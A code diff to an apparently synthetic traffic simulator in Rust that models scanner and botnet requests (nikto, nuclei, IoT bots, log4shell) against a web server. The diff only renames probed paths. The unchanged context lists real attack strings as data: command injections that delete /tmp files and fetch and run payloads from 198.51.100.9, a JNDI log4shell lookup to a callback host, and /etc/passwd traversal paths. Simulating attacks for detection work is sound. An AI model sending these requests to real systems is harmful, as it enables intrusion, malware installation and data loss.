@@ -142,7 +142,7 @@ pub(super) fn nikto(w: &mut World) {
         "/awstats/awstats.pl?config=nikto",
         "/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000",
         "/?=PHPE9568F36-D428-11d2-A769-00AA001ACF42",
-        "/cgi-mod/webctl.cgi",
+        "/cgi-mod/webctl",
         "/..%2f..%2f..%2fetc/passwd",
         "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
         "/index.php?page=../../../../../../etc/passwd",
@@ -221,7 +221,7 @@ pub(super) fn nuclei(w: &mut World) {
         "/.DS_Store",
         "/config.json",
         "/owa/auth/logon.aspx",
-        "/owa2/ecp/Current/exporttool.aspx",
+        "/owa2/ecp/Current/exporttool.ashx",
         "/api/v2/.creds_backup.json",
         "/telescope/requests",
         "/_profiler/phpinfo",
@@ -248,7 +248,7 @@ pub(super) fn nuclei(w: &mut World) {
         "/phpinfo.php",
         "/storage/logs/laravel.log",
         "/.well-known/security.txt",
-        "/owa2/ecp/Current/exporttool.aspx",
+        "/owa2/ecp/Current/exporttool.ashx",
     ];
     let t = at(9, 11, 0, 3) + micros(&mut rng);
     probe_burst(w, &mut rng, NUCLEI, t, &paths, ua, (150_000, 4 * SEC));
@@ -261,7 +261,7 @@ pub(super) fn ipv6_web_scanner(w: &mut World) {
         "/.env",
         "/.git/config",
         "/wp-login.php",
-        "/owa2/ecp/Current/exporttool.aspx",
+        "/owa2/ecp/Current/exporttool.ashx",
         "/phpmyadmin/index.php",
         "/cgi-bin/luci",
         "/.aws/credentials",
@@ -269,13 +269,13 @@ pub(super) fn ipv6_web_scanner(w: &mut World) {
         "/admin/",
         "/.env.bak",
         "/backup.sql",
-        "/owa2/ecp/Current/exporttool.aspx",
+        "/owa2/ecp/Current/exporttool.ashx",
     ];
     let t = at(12, 9, 30, 12) + micros(&mut rng);
     let t = probe_burst(w, &mut rng, WEB_IPV6, t, &paths, OLD_CHROME, (500_000, 6 * SEC));
     // And the Gitea on nginx: dotfiles are denied by a rule, the rest is Gitea's 404.
     let mut t = t + 3 * MIN;
-    for path in ["/.env", "/.git/config", "/wp-login.php", "/owa2/ecp/Current/exporttool.aspx", "/api/v1/users/search"]
+    for path in ["/.env", "/.git/config", "/wp-login.php", "/owa2/ecp/Current/exporttool.ashx", "/api/v1/users/search"]
     {
         t += rng.range(SEC, 5 * SEC);
         let request = get(path);
@@ -360,7 +360,7 @@ pub(super) fn iot_bot(w: &mut World) {
                 ("POST /boaform/admin/formLogin", IOT_UA),
                 ("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws", hello),
                 ("POST /GponForm/diag_Form?images/", hello),
-                ("/cgi-mod/webctl.cgi", IOT_UA),
+                ("/cgi-mod/webctl", IOT_UA),
                 ("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.9:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", hello),
             ],
         ),
@@ -368,10 +368,10 @@ pub(super) fn iot_bot(w: &mut World) {
             10,
             &[
                 ("POST /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F198.51.100.9%2Ft%7Csh%60)", IOT_UA),
-                ("/wsman/relay.php", IOT_UA),
+                ("/wsman/relay.do", IOT_UA),
                 ("/HNAP1/", IOT_UA),
-                ("/cgi-mod/webctl.cgi", IOT_UA),
-                ("/wsman/relay.php", IOT_UA),
+                ("/cgi-mod/webctl", IOT_UA),
+                ("/wsman/relay.do", IOT_UA),
             ],
         ),
     ];
@@ -396,7 +396,7 @@ pub(super) fn php_exploiter(w: &mut World) {
         ("/phpmyadmin/index.php", chrome78),
         ("/pma/index.php", chrome78),
         ("/?XDEBUG_SESSION_START=phpstorm", chrome78),
-        ("/wsman/relay.php", chrome78),
+        ("/wsman/relay.do", chrome78),
         ("/.env", chrome78),
     ];
     let mut t = at(6, 3, 33, 8) + micros(&mut rng);
@@ -410,7 +410,7 @@ pub(super) fn log4shell(w: &mut World) {
     let jndi = format!("${{jndi:ldap://{CALLBACK_HOST}/a}}");
     for d in [2, 12] {
         let mut t = at(d, 5, rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
-        let requests = [format!("/?x={jndi}"), "/".to_string(), format!("/{jndi}"), "/wsman/relay.php".to_string()];
+        let requests = [format!("/?x={jndi}"), "/".to_string(), format!("/{jndi}"), "/wsman/relay.do".to_string()];
         for path in &requests {
             probe(w, &mut rng, LOG4SHELL, t, "GET", path, &jndi, &jndi);
             t += rng.range(SEC, 5 * SEC);
